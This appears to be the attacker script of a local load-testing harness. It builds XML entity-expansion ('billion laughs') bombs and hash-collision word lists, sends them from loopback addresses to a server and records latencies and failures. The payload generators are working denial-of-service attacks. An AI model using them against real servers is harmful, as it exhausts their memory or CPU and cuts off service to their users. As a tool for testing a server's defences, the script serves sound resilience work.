'use strict';

// The attackers: small documents that cost the server much memory (bomb) or much CPU time (collision).

const {fail, loopback, parse, target} = require('../nodejs/options');
const exchange = require('../nodejs/exchange');
const Random = require('../nodejs/random');

const KINDS = {
  bomb: {source: '127.0.0.66', unit: 'MB of text that a request expands to', mean: 100, most: 200, body: bomb},
  collision: {source: '127.0.0.67', unit: 'colliding words of a request', mean: 14000, most: 19683, body: collision},
};
// Sizes spread evenly on a logarithmic scale between these multiples of --size.
const SMALLEST = 0.75;
const LARGEST = 1.4;

const LEAF_BYTES = 4000;
const FANOUT = 10;
// Two characters c and d add 31 * c + d to the server's hash: the same for all three of these.
const SAME_HASH = ['Aa', 'BB', 'C#'];

const options = parse('attack.js bomb|collision [OPTION...]', {
  url: {value: 'http://127.0.0.1:3003', text: 'the server'},
  requests: {value: 12, max: 1000, whole: true, text: 'number of requests'},
  size: {value: 0, max: 1e5, text: 'mean size of a request; 0: 100 MB expanded (bomb), 14,000 words (collision)'},
  'interval-ms': {value: 3000, text: 'milliseconds from one request to the next, which waits for the answer'},
  delay: {value: 0, max: 3600, text: 'seconds before the first request'},
  timeout: {value: 60, min: 1, max: 600, text: 'seconds for one request'},
  source: {value: '', text: 'loopback address to send from; without: 127.0.0.66 (bomb), 127.0.0.67 (collision)'},
  seed: {value: 1, whole: true, text: 'seed of the order of sizes'},
});
const kind = KINDS[options.rest[0]];
if (options.rest.length !== 1 || kind === undefined) {
  fail('expected the kind of attack, bomb or collision; --help shows the usage', 2);
}
const server = target(options.url);
const source = loopback('source', options.source || kind.source);
const mean = options.size || kind.mean;
if (mean * LARGEST > kind.most) {
  fail(`--size ${mean}: expected at most ${Math.floor(kind.most / LARGEST)} ${kind.unit}`, 2);
}

/** Entities of entities: each level holds ten of the level below it, the lowest 4,000 bytes of text. */
function bomb(megabytes) {
  let copies = Math.max(1, Math.round(megabytes * 1e6 / LEAF_BYTES));
  const entities = [`<!ENTITY e0 "<l>${'lol'.repeat(LEAF_BYTES / 3 + 1).slice(0, LEAF_BYTES)}</l>">`];
  const references = [];
  for (let level = 0; copies > 0; level++, copies = Math.floor(copies / FANOUT)) {
    if (level > 0) {
      entities.push(`<!ENTITY e${level} "${`&e${level - 1};`.repeat(FANOUT)}">`);
    }
    references.push(`&e${level};`.repeat(copies % FANOUT));
  }
  return `<?xml version="1.0"?>\n<!DOCTYPE d [\n${entities.join('\n')}\n]>\n<d>${references.join('')}</d>\n`;
}

/** Distinct words of the same hash: the numbers from 0 in base 3, whose digits are written as pairs of characters. */
function collision(count) {
  const digits = Math.ceil(Math.log(kind.most) / Math.log(SAME_HASH.length));
  const word = number => {
    let text = '';
    for (let i = 0; i < digits; i++, number = Math.floor(number / SAME_HASH.length)) {
      text += SAME_HASH[number % SAME_HASH.length];
    }
    return text;
  };
  return `<d>${Array.from({length: Math.round(count)}, (_, number) => word(number)).join(' ')}</d>\n`;
}

function spread(count, random) {
  const step = Math.log(LARGEST / SMALLEST) / Math.max(1, count - 1);
  return random.shuffle(Array.from({length: count}, (_, index) => mean * SMALLEST * Math.exp(index * step)));
}

const began = exchange.now();
const sizes = spread(options.requests, new Random(options.seed));
const latencies = [];
const bodies = [];
const counts = {ok: 0, errors: 0, timeouts: 0, text_bytes: 0, words: 0};
let firstError = null;

function settle(error, body) {
  const answer = error ? null : JSON.parse(body);
  if (!error && answer.origin_ip !== source) {
    error = new Error(`the server saw ${answer.origin_ip} as the source`);
  }
  if (!error) {
    counts.ok++;
    counts.text_bytes += answer.text_bytes;
    counts.words += answer.words;
    return;
  }
  counts[error.code === 'TIMEOUT' ? 'timeouts' : 'errors']++;
  firstError = firstError || error.message;
}

function end() {
  const seconds = Math.round(exchange.now() - began) / 1000;
  const summary = Object.assign({role: options.rest[0], source, requests: options.requests}, counts, {seconds});
  summary.body_bytes = exchange.quantiles(bodies);
  summary.latency_ms = exchange.quantiles(latencies);
  process.stdout.write(JSON.stringify(summary) + '\n');
  if (counts.ok < options.requests) {
    process.stderr.write(`attack.js: ${options.requests - counts.ok} requests failed, the first by: ${firstError}\n`);
    process.exitCode = 1;
  }
}

function send(due) {
  const start = exchange.now();
  const body = Buffer.from(kind.body(sizes[latencies.length]));
  const headers = {'Content-Length': body.length};
  const request = {host: server.host, port: server.port, localAddress: source, agent: false, method: 'POST', path: '/', headers};
  const next = due + options['interval-ms'];
  bodies.push(body.length);
  exchange.send(request, [body], 0, options.timeout, (error, answer) => {
    latencies.push(exchange.now() - start);
    settle(error, answer);
    process.stderr.write(`${options.rest[0]}: ${latencies.length} of ${options.requests} requests, ${latencies.length - counts.ok} failed\n`);
    if (latencies.length === options.requests) {
      end();
    } else {
      setTimeout(send, Math.max(0, next - exchange.now()), next);
    }
  });
}

if (options.requests === 0) {
  end();
} else {
  const first = began + options.delay * 1000;
  setTimeout(send, Math.max(0, first - exchange.now()), first);
}
